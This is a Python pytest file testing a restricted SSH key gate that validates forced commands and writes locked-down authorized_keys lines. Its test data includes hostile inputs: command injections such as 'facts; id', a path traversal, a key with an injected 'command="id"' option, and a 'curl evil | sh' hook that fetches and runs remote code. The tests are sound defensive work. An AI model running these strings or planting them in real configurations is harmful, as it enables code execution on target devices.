"""The door for a restricted key, as sshd would ask it: what is let in, what is not, and what a line in authorized_keys says."""

from __future__ import annotations

import json
import shlex
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from edgepack.device import door, store
from edgepack.device.faults import Fault
from edgepack.device.requests import AuthorizeRequest
from edgepack.remote import commands

HEX = "a" * 64
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIhWlNfFgSJ3RBE7rvk2BVwL8Y8IqW5aUcOXgvSVlW2G deploy@host"


@pytest.fixture
def root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    monkeypatch.setattr(door, "SYSTEM", str(tmp_path / "none"))
    monkeypatch.setenv("HOME", str(tmp_path))
    (tmp_path / "root/agent").mkdir(parents=True)
    (tmp_path / "agent.pyz").write_bytes(b"the agent at the door")
    return str(tmp_path / "root")


@pytest.mark.parametrize("verb", door.VERBS)
def test_what_the_host_asks_for_is_let_in(verb: str, root: str) -> None:
    assert door.parse(commands.run_agent(root, HEX, verb, 60), root) == door.Asked(HEX, verb, "60")
    assert door.parse(commands.install_agent(root, HEX), root) == door.Asked(HEX)


@pytest.mark.parametrize("verb", ["trust", "remove", "authorize", "judge", "serve", "", "facts; id"])
def test_other_verbs_are_not(verb: str, root: str) -> None:
    with pytest.raises(Fault, match="agent alone"):
        door.parse(commands.run_agent(root, HEX, verb, 60), root)


@pytest.mark.parametrize(
    "original",
    [
        "",
        "id",
        "sh",
        "sh -c id",
        "sh -c id edgepack-run",
        "internal-sftp",
        "/usr/lib/openssh/sftp-server",
        "scp -t /tmp",
        "rsync --server . .",
        f"sh -c id edgepack-run /etc {HEX} facts 60",
        "sh -c id edgepack-run ROOT ../../x facts 60",
        f"sh -c id edgepack-run ROOT {HEX} facts 60; id",
        f"sh -c id edgepack-run ROOT {HEX} facts -1",
        f"bash -c id edgepack-run ROOT {HEX} facts 60",
        "sh -c 'id",
    ],
)
def test_nothing_else_is(original: str, root: str) -> None:
    with pytest.raises(Fault):
        door.parse(original.replace("ROOT", root), root)


@given(st.text())
def test_no_text_opens_it_by_accident(text: str) -> None:
    with pytest.raises(Fault):
        door.parse(text, "/home/pi/.edgepack")


def test_commands_and_wheels_must_be_known(root: str) -> None:
    store.write_json(
        root + "/door.json", {"agents": [], "locks": ["sha256:" + HEX], "hooks": ["systemctl restart kws"]}
    )
    door.ensure_allowed(root, "activate", {"restart": "systemctl restart kws", "health": ""})
    door.ensure_allowed(root, "runtime", {"key": "sha256:" + HEX, "lock": "{}"})
    door.ensure_allowed(root, "runtime", {"key": "system:litert"})
    door.ensure_allowed(root, "bench", {"protocol": {"governor": ""}})
    for verb, raw in (
        ("activate", {"health": "curl evil | sh"}),
        ("rollback", {"restart": "systemctl restart kws; id"}),
        ("runtime", {"key": "sha256:" + "b" * 64, "lock": "{}"}),
        ("runtime", {"key": "sha256:" + HEX}),
        ("bench", {"protocol": {"governor": "performance"}}),
        ("bench-pair", {"protocol": {"governor": "performance"}}),
    ):
        with pytest.raises(Fault) as refused:
            door.ensure_allowed(root, verb, raw)
        assert refused.value.kind == "trust"


def test_a_key_gets_one_line_that_says_everything(root: str, tmp_path: Path) -> None:
    agent = str(tmp_path / "agent.pyz")
    request = AuthorizeRequest(KEY, hooks=("true",), locks=("sha256:" + HEX,))
    first = door.authorize(root, request, agent)
    assert door.authorize(root, request, agent) == first
    path = tmp_path / ".ssh/authorized_keys"
    assert path.read_text() == first["line"] + "\n"
    assert path.stat().st_mode & 0o777 == 0o600
    options, command, rest = first["line"].split('"')
    assert (options, rest) == ("restrict,command=", " " + KEY)
    assert shlex.split(command)[1:] == ["-I", "-S", agent, "serve", root]
    rules = json.loads((tmp_path / "root/door.json").read_text())
    assert rules["hooks"] == ["true"] and len(rules["agents"]) == 1


def test_a_key_that_opens_a_shell_is_not_restricted_by_a_second_line(root: str, tmp_path: Path) -> None:
    (tmp_path / ".ssh").mkdir()
    (tmp_path / ".ssh/authorized_keys").write_text(KEY + "\n")
    with pytest.raises(Fault, match="already opens more"):
        door.authorize(root, AuthorizeRequest(KEY), str(tmp_path / "agent.pyz"))
    assert (tmp_path / ".ssh/authorized_keys").read_text() == KEY + "\n"


@pytest.mark.parametrize("key", ["", "ssh-ed25519", KEY + "\nssh-rsa AAAA", 'command="id" ' + KEY, "ssh-ed25519 !!!!"])
def test_what_is_no_key_is_refused(key: str, root: str, tmp_path: Path) -> None:
    with pytest.raises(Fault, match="no public key"):
        door.authorize(root, AuthorizeRequest(key), str(tmp_path / "agent.pyz"))
